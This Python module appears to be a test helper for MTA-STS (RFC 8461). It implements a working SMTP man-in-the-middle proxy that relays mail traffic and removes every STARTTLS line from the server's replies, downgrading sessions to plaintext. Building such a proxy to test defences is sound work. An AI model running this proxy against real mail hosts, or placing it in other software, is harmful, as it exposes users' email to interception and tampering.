# SPDX-License-Identifier: ISC
"""Somebody in between who takes STARTTLS out of what a mail host offers, and
passes all else on: the attack that RFC 8461 is against."""
import socketserver
import socket
import threading

from sinks import Listener


def strip(address, behind):
    """Serves address in front of the host at the address behind, until
    close()."""
    return Listener(address, 25, type("Handler", (Stripper,),
                                      {"behind": behind}))


class Stripper(socketserver.BaseRequestHandler):
    behind = None

    def handle(self):
        with socket.create_connection((self.behind, 25), 60) as server:
            back = threading.Thread(target=self.pass_replies, args=(server,))
            back.start()
            while True:
                octets = self.request.recv(65536)
                if not octets:
                    break
                server.sendall(octets)
            server.shutdown(socket.SHUT_WR)
            back.join()

    def pass_replies(self, server):
        for line in server.makefile("rb"):
            if b"STARTTLS" not in line:
                self.request.sendall(line)
